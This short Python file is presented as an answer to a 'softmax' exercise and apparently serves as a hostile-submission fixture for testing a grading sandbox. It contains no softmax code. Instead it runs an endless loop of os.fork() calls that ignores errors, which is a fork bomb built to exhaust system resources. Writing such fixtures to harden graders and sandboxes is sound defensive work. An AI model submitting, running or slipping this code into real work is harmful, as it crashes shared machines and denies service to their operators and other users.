"""Forks without end."""
# exercise: softmax
# where: answer
# status: any

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
